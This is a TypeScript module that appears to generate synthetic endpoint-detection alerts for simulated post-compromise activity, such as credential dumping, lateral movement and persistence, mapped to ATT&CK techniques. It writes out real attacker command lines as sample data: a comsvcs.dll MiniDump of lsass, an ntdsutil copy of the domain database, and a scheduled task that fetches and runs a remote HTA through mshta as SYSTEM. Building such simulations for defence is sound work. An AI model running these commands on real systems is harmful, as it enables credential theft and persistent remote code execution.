import { server } from '../organisation.ts';
import { type Detection, SENSORS, technique } from './scenario.ts';
import { fileFields, hostFields, onWorkstation, processFields, userFields } from './scene-fields.ts';

const CMD = 'C:\\Windows\\System32\\cmd.exe';

/** Steps after the first: passwords, other hosts, staying. */
export const FOOTHOLD_SCENARIOS: readonly Detection[] = [
  {
    analytic: 'Credential Dumping',
    detection: 'Process Memory Access',
    weight: 4,
    technique: technique('T1003.001', 'OS Credential Dumping: LSASS Memory', 'credentialAccess'),
    category: ['process'],
    type: ['access'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation }) => {
      const dump = `C:\\Windows\\Temp\\${random.hex(8)}.dmp`;
      const commandLine = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 ${dump} full`;
      return {
        message: `Memory of lsass.exe written to ${dump} on ${workstation.name}`,
        outline: {
          threat: 'comsvcs.dll MiniDump',
          target: workstation.name,
          indicators: [dump, 'lsass.exe'],
          summary: 'Memory of the logon process dumped',
        },
        score: random.decimal(86, 98),
        severity: 9,
        action: 'process-accessed',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          process: processFields({
            path: 'C:\\Windows\\System32\\rundll32.exe',
            commandLine,
            pid: random.integer(3000, 19000),
            parent: { path: CMD, commandLine: 'cmd.exe', pid: random.integer(900, 2900) },
          }),
          file: fileFields(dump, random.integer(42_000_000, 71_000_000)),
          related: { hosts: [workstation.name], user: [workstation.owner.username] },
        },
        raw: {
          EventID: 10,
          SourceImage: 'C:\\Windows\\System32\\rundll32.exe',
          TargetImage: 'C:\\Windows\\System32\\lsass.exe',
          GrantedAccess: '0x1FFFFF',
        },
      };
    },
  },
  {
    analytic: 'Credential Dumping',
    detection: 'Directory Database Copy',
    weight: 2,
    technique: technique('T1003.003', 'OS Credential Dumping: NTDS', 'credentialAccess'),
    category: ['process', 'file'],
    type: ['creation'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation: { owner } }) => {
      const host = server(random.pick(['MCM-DC01', 'MCM-DC02']));
      const commandLine = 'ntdsutil "ac i ntds" "ifm" "create full C:\\PerfLogs\\backup" q q';
      return {
        message: `Copy of the directory database made on ${host.name} by ${owner.username}`,
        outline: {
          threat: owner.username,
          target: host.name,
          indicators: ['ntds.dit', 'C:\\PerfLogs\\backup'],
          summary: 'All domain password hashes in one folder',
        },
        score: random.decimal(90, 99),
        severity: 10,
        action: 'process-created',
        outcome: 'success',
        fields: {
          host: hostFields(host),
          user: userFields(owner),
          process: processFields({
            path: 'C:\\Windows\\System32\\ntdsutil.exe',
            commandLine,
            pid: random.integer(3000, 9000),
            parent: { path: CMD, commandLine: 'cmd.exe', pid: random.integer(900, 2900) },
          }),
          file: fileFields('C:\\PerfLogs\\backup\\Active Directory\\ntds.dit', 486_539_264),
          related: { hosts: [host.name], user: [owner.username], ip: [host.ip] },
        },
        raw: {
          EventID: 4688,
          NewProcessName: 'C:\\Windows\\System32\\ntdsutil.exe',
          CommandLine: commandLine,
          Computer: host.name,
        },
      };
    },
  },
  {
    analytic: 'Lateral Movement Watch',
    detection: 'Remote Service',
    weight: 5,
    technique: technique('T1569.002', 'System Services: Service Execution', 'lateralMovement'),
    category: ['network', 'process'],
    type: ['start', 'connection'],
    sensor: SENSORS.windows,
    build: ({ random, workstation }) => {
      const target = server(random.pick(['MCM-FS02', 'MCM-SQL01', 'MCM-JUMP01', 'MCM-EXCH01']));
      return {
        message: `Service PSEXESVC installed on ${target.name} from ${workstation.name}`,
        outline: {
          threat: workstation.name,
          target: target.name,
          indicators: ['PSEXESVC', workstation.ip, target.ip],
          summary: 'Remote execution from a laptop',
        },
        score: random.decimal(58, 83),
        severity: 7,
        action: 'service-installed',
        outcome: 'success',
        fields: {
          host: hostFields(target),
          user: userFields(workstation.owner),
          source: { ip: workstation.ip, port: random.integer(49_200, 65_000) },
          destination: { ip: target.ip, port: 445 },
          network: { direction: 'internal', protocol: 'smb', transport: 'tcp' },
          process: processFields({
            path: 'C:\\Windows\\PSEXESVC.exe',
            commandLine: 'C:\\Windows\\PSEXESVC.exe',
            pid: random.integer(3000, 9000),
            parent: { path: 'C:\\Windows\\System32\\services.exe', commandLine: 'services.exe', pid: 688 },
          }),
          related: {
            hosts: [target.name, workstation.name],
            user: [workstation.owner.username],
            ip: [workstation.ip, target.ip],
          },
        },
        raw: { EventID: 7045, ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', Computer: target.name },
      };
    },
  },
  {
    analytic: 'Lateral Movement Watch',
    detection: 'Desktop Session From Server',
    weight: 4,
    technique: technique('T1021.001', 'Remote Services: Remote Desktop Protocol', 'lateralMovement'),
    category: ['authentication', 'session'],
    type: ['start'],
    sensor: SENSORS.windows,
    build: ({ random, workstation: { owner } }) => {
      const from = server(random.pick(['MCM-SQL01', 'MCM-EXCH01', 'MCM-FS02']));
      const to = server(random.pick(['MCM-DC01', 'MCM-DC02']));
      return {
        message: `Remote desktop from ${from.name} to ${to.name} as ${owner.username}, not by the jump host`,
        outline: {
          threat: from.name,
          target: to.name,
          indicators: [from.ip, to.ip, owner.username],
          summary: 'Domain controller reached around the jump host',
        },
        score: random.decimal(52, 78),
        severity: 6,
        action: 'logged-in',
        outcome: 'success',
        fields: {
          host: hostFields(to),
          user: userFields(owner),
          source: { ip: from.ip, port: random.integer(49_200, 65_000) },
          destination: { ip: to.ip, port: 3389 },
          network: { direction: 'internal', protocol: 'rdp', transport: 'tcp' },
          related: { hosts: [from.name, to.name], user: [owner.username], ip: [from.ip, to.ip] },
        },
        raw: { EventID: 4624, LogonType: 10, TargetUserName: owner.username, IpAddress: from.ip, Computer: to.name },
      };
    },
  },
  {
    analytic: 'Persistence Monitor',
    detection: 'Run Key',
    weight: 6,
    technique: technique(
      'T1547.001',
      'Boot or Logon Autostart Execution: Registry Run Keys / Startup Folder',
      'persistence',
    ),
    category: ['registry'],
    type: ['change'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation }) => {
      const value = random.pick(['OneDriveSyncHelper', 'TeamsUpdateAgent', 'GraphicsTray']);
      const program = `C:\\Users\\${workstation.owner.username}\\AppData\\Roaming\\${value}\\${value.toLowerCase()}.exe`;
      const key = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run';
      return {
        message: `Unsigned ${value.toLowerCase()}.exe starts at every logon of ${workstation.owner.username}`,
        outline: {
          threat: program,
          target: workstation.name,
          indicators: [program, `HKCU\\${key}\\${value}`],
          summary: 'Autostart entry for an unsigned program',
        },
        score: random.decimal(36, 64),
        severity: 5,
        action: 'registry-value-set',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          registry: {
            hive: 'HKCU',
            key,
            value,
            path: `HKCU\\${key}\\${value}`,
            data: { strings: [program], type: 'REG_SZ' },
          },
          file: fileFields(program, random.integer(180_000, 2_400_000)),
          related: { hosts: [workstation.name], user: [workstation.owner.username] },
        },
        raw: { EventID: 13, TargetObject: `HKU\\S-1-5-21\\${key}\\${value}`, Details: program },
      };
    },
  },
  {
    analytic: 'Persistence Monitor',
    detection: 'Scheduled Task',
    weight: 5,
    technique: technique('T1053.005', 'Scheduled Task/Job: Scheduled Task', 'persistence'),
    category: ['process', 'configuration'],
    type: ['creation'],
    sensor: SENSORS.windows,
    build: ({ random, workstation }) => {
      const task = random.pick(['GoogleUpdateTaskMachineQC', 'WindowsTelemetrySync', 'AdobeFlashRepair']);
      const commandLine = `schtasks /create /tn "${task}" /tr "mshta.exe http://${random.pick(['203.0.113.42', '203.0.113.17'])}/t.hta" /sc minute /mo 30 /ru SYSTEM`;
      return {
        message: `Scheduled task ${task} runs mshta.exe every 30 minutes on ${workstation.name}`,
        outline: {
          threat: task,
          target: workstation.name,
          indicators: [task, 'mshta.exe'],
          summary: 'Task fetches and runs a script as SYSTEM',
        },
        score: random.decimal(55, 80),
        severity: 7,
        action: 'scheduled-task-created',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          process: processFields({
            path: 'C:\\Windows\\System32\\schtasks.exe',
            commandLine,
            pid: random.integer(3000, 19000),
            parent: { path: CMD, commandLine: 'cmd.exe', pid: random.integer(900, 2900) },
          }),
          related: { hosts: [workstation.name], user: [workstation.owner.username] },
        },
        raw: { EventID: 4698, TaskName: `\\${task}`, SubjectUserName: workstation.owner.username },
      };
    },
  },
];
